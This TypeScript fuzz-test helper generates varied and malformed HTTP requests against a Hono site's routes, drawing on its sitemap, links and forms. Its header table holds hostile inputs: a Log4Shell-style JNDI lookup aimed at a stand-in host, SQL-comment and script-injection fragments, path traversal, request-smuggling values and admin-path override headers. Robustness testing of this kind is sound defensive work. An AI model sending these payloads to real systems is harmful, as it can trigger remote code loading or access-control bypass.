import fc from 'fast-check'
import type { Hono } from 'hono'
import { addresses, formats } from '../../src/platform/http/addresses.ts'
import { interfaceLanguages } from '../../src/platform/locales/languages.ts'
import { pages } from '../../src/site/pages.ts'
import { addressesIn } from './html.ts'
import { nasty } from './nasty-words.ts'
import { type TestSite, testOrigin } from './site.ts'
import { type Asked, strangers } from './verdict.ts'

/** A place where the site answers: its pattern as the router knows it, and the query that it declares. */
export type Route = { pattern: string; query: readonly string[] }

/** Every place where the site answers, from the router itself and the tables of pages: a new route is here without being named. */
export function routesOf(app: Hono): Route[] {
  const declared = new Map(
    pages.flatMap(({ page, query = [] }) =>
      interfaceLanguages.map(language => [addresses[page][language] as string, query]),
    ),
  )
  const answered = app.routes.flatMap(({ method, path }) => (method === 'GET' && path !== '/*' ? path : []))
  const patterns = new Set([...answered, ...Object.values(addresses).flatMap(({ fr, en }) => [fr, en])])
  return [...patterns].map(pattern => ({ pattern, query: declared.get(pattern) ?? [] }))
}

/** What the site itself leads to, to start from: real paths, and for each name of a query the values that links and forms give it. */
export type Known = { paths: string[]; values: Map<string, string[]> }

export async function knownTo(site: TestSite): Promise<Known> {
  const sitemap = await (await site.get('/sitemap.xml')).text()
  const paths = [...sitemap.matchAll(/<loc>([^<]+)<\/loc>/g)].map(([, address = '']) => new URL(address).pathname)
  const values = new Map<string, string[]>()
  const add = (name: string, value: string) => {
    const known = values.get(name) ?? []
    if (value && known.length < 40 && !known.includes(value)) values.set(name, [...known, value])
  }
  const asking = pages.filter(({ query = [] }) => query.length > 0).map(({ page }) => addresses[page].fr as string)
  for (const path of [...asking.filter(one => !one.includes(':')), ...paths.slice(0, 10)]) {
    const html = await (await site.get(path)).text()
    for (const { href } of addressesIn(html))
      for (const [name, value] of new URL(href, testOrigin).searchParams) add(name, value)
    for (const [, name = '', options = ''] of html.matchAll(/<select[^>]*\sname="([^"]*)"[^>]*>(.*?)<\/select>/gs))
      for (const [, value = ''] of options.matchAll(/\svalue="([^"]*)"/g)) add(name, value)
  }
  return { paths, values }
}

const words = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...nasty) },
  {
    weight: 2,
    arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }).map(one => encodeURIComponent(one.toWellFormed())),
  },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
  { weight: 1, arbitrary: fc.string({ unit: fc.constantFrom(...'%0123456789abcdefABCDEF'), maxLength: 12 }) },
)

/** A path at a route: a real one, one of which a part was changed, one that is made of anything. */
function pathsOf({ pattern }: Route, { paths }: Known): fc.Arbitrary<string> {
  const shape = new RegExp(`^${pattern.replace(/:\w+(?:\{([^}]*)\})?/g, (_, rule = '[^/]+') => `(?:${rule})`)}$`)
  const real = paths.filter(path => shape.test(path))
  const parts = pattern.split('/')
  const filled = fc
    .tuple(...parts.map(part => (part.startsWith(':') ? words : fc.constant(part))))
    .map(made => made.join('/') || '/')
  if (real.length === 0) return filled
  const known = fc.constantFrom(...real)
  const changed = fc.tuple(known, fc.nat(), words, fc.boolean()).map(([path, at, word, whole]) => {
    const pieces = path.split('/')
    const place = 1 + (at % Math.max(1, pieces.length - 1))
    pieces[place] = whole ? word : `${pieces[place]}${word}`
    return pieces.join('/')
  })
  return fc.oneof(known, changed, filled)
}

const endings = fc.oneof(
  { weight: 5, arbitrary: fc.constant('') },
  { weight: 4, arbitrary: fc.constantFrom(...formats.map(format => `.${format}`)) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      '/',
      '//',
      '/.',
      '/..',
      '.',
      '.JSON',
      '.json/',
      '.json.csv',
      '.xml',
      '.html',
      ';.json',
      '%2ejson',
      '/index.json',
    ),
  },
)

/** A query: declared names and others, once or several times, with values that mean something and values that don't. */
function queriesOf({ query }: Route, { values }: Known): fc.Arbitrary<string> {
  const name = query.length > 0 ? fc.oneof({ weight: 5, arbitrary: fc.constantFrom(...query) }, words) : words
  const pair = name.chain(one => {
    const known = values.get(one) ?? []
    const value = known.length > 0 ? fc.oneof(fc.constantFrom(...known).map(encodeURIComponent), words) : words
    return fc.oneof(
      { weight: 8, arbitrary: value.map(made => `${one}=${made}`) },
      {
        weight: 1,
        arbitrary: fc.constantFrom(one, `${one}=`, `${one}[]=1`, `=${one}`, `${one}=1&${one}=2`, '&&', `${one};x=1`),
      },
    )
  })
  return fc.oneof(
    { weight: 2, arbitrary: fc.constant('') },
    { weight: 5, arbitrary: fc.array(pair, { minLength: 1, maxLength: 4 }).map(pairs => `?${pairs.join('&')}`) },
  )
}

const [stranger = '', other = ''] = strangers

/** Values that mean something to a header, and values that mean harm. */
const told: Record<string, readonly string[]> = {
  accept: [
    '*/*',
    '',
    ',,,',
    ';q=',
    'text/html;q=abc',
    'application/json',
    'application/json;q=0',
    'a/'.repeat(2000),
    'application/ld+json, */*',
    '/',
  ],
  'accept-language': [
    'en',
    'fr;q=0.1, en',
    '*',
    'xx',
    'en;q=9',
    'fr-',
    '-',
    'fr;q=-1',
    'en,'.repeat(2000),
    ';;;;',
    'i-klingon',
    '\xff\xfe',
  ],
  'accept-encoding': [
    'gzip',
    'br',
    'br;q=x',
    'gzip;q=0.0.0',
    ','.repeat(4000),
    'br'.repeat(3000),
    '*',
    'identity;q=0',
    'zstd',
  ],
  'if-none-match': ['*', '"', 'W/', '"a'.repeat(2000), ',,,,', 'W/"""', '"x"'],
  'if-modified-since': ['yesterday', 'Thu, 01 Jan 1970 00:00:00 GMT', '9'.repeat(100)],
  range: ['bytes=0-1', 'bytes=9999999-', 'bytes=-1', 'bytes=0-0,1-1,2-2', 'lines=1-2', 'bytes=5-1'],
  host: [stranger, `${other}:99`, 'localhost', '[::1]'],
  'x-forwarded-host': [stranger, `${stranger}, ${other}`, '"><script>'],
  'x-forwarded-proto': ['javascript', 'https', 'http'],
  'x-forwarded-for': ['127.0.0.1', `${"'"}--`, '::1'],
  'x-original-url': ['/admin', '/nowhere'],
  'x-rewrite-url': ['/admin', '/nowhere'],
  forwarded: [`host=${stranger};proto=http`, 'for="_x"'],
  'x-http-method-override': ['DELETE', 'PUT'],
  origin: [`https://${stranger}`, 'null', 'file://'],
  referer: [`https://${stranger}/`, 'x'.repeat(3000)],
  cookie: ['a=b; '.repeat(300), 'session=1', '__Host-x=y', '='],
  authorization: ['Basic YTpi', 'Bearer x', '\xff'],
  'content-type': ['application/json', 'multipart/form-data', 'text/html; charset=utf-7'],
  'content-length': ['0', '99', '-1', '1, 2', '9'.repeat(30)],
  'transfer-encoding': ['chunked', 'identity', 'chunked, chunked', 'xchunked'],
  'user-agent': ["';--", 'x'.repeat(3000), '%24{jndi:ldap://stranger.example/a}'],
  'sec-fetch-site': ['cross-site', 'none'],
  expect: ['100-continue', '200-ok'],
  upgrade: ['websocket', 'h2c'],
  'x-request-id': ['chosen', '../../x'],
}
const headers = fc
  .array(
    fc
      .constantFrom(...Object.keys(told))
      .chain(name =>
        fc
          .oneof(
            fc.constantFrom(...(told[name] ?? [])),
            fc.string({ unit: fc.constantFrom(...'abcefnr;,*=/.-"q019 W<>\'\xe9'), maxLength: 40 }),
          )
          .map((value): [string, string] => [name, value]),
      ),
    { maxLength: 4 },
  )
  .map(pairs => Object.fromEntries(pairs))

const methods = fc.constantFrom(
  ...Array(8).fill('GET'),
  'HEAD',
  'HEAD',
  'POST',
  'PUT',
  'DELETE',
  'PATCH',
  'OPTIONS',
  'QUERY',
  'BREW',
)

/** Requests to one of the routes, or to none of them. */
export function requests(
  routes: readonly Route[],
  known: Known,
): fc.Arbitrary<Asked & { headers: Record<string, string> }> {
  const nowhere: Route = { pattern: '/:a/:b/:c', query: ['q'] }
  return fc
    .constantFrom(...routes, nowhere)
    .chain(route =>
      fc.record({
        method: methods,
        path: fc
          .tuple(pathsOf(route, known), endings, queriesOf(route, known))
          .map(parts => parts.join('').toWellFormed()),
        headers,
      }),
    )
    .filter(({ path }) => URL.canParse(testOrigin + path))
}
